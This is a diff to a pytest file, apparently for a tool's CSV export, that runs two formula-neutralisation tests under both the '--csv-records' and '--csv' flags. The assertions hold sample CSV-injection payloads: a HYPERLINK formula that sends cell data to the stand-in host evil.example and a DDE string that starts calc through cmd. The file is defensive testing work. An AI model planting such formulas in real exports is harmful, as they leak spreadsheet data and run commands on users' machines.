@@ -55,9 +55,10 @@ def csv_rows(text: str) -> list[dict[str, str]]:
 
 
 # -- item 1: spreadsheets --------------------------------------------------------------------
-def test_show_csv_neutralises_formulas_but_not_numbers(hostile_db: Path):
-    rows = csv_rows(ok("show", OWNER, "--csv", "--db", str(hostile_db)).stdout)
-    row = next(r for r in rows if r["record"] == "row")
+@pytest.mark.parametrize("flag", ["--csv-records", "--csv"])  # records, and rows (issue 13)
+def test_show_csv_neutralises_formulas_but_not_numbers(hostile_db: Path, flag: str):
+    rows = csv_rows(ok("show", OWNER, flag, "--db", str(hostile_db)).stdout)
+    row = next(r for r in rows if r.get("record", "row") == "row")
     assert row["owner_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
     assert row["issuer_ticker"] == "'=1+2"
     assert row["security_title"] == "'+SUM(1,1)*cmd|' /C calc'!A0"
@@ -76,9 +77,10 @@ def test_show_csv_neutralises_formulas_but_not_numbers(hostile_db: Path):
                 assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)
 
 
-def test_company_csv_neutralises_formulas(hostile_db: Path):
-    rows = csv_rows(ok("company", ISSUER, "--csv", "--db", str(hostile_db)).stdout)
-    tx = [r for r in rows if r["record"] == "transaction"]
+@pytest.mark.parametrize("flag", ["--csv-records", "--csv"])  # records, and rows (issue 13)
+def test_company_csv_neutralises_formulas(hostile_db: Path, flag: str):
+    rows = csv_rows(ok("company", ISSUER, flag, "--db", str(hostile_db)).stdout)
+    tx = [r for r in rows if r.get("record", "transaction") == "transaction"]
     assert tx, rows
     assert {r["owner_name"] for r in tx} == {
         '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
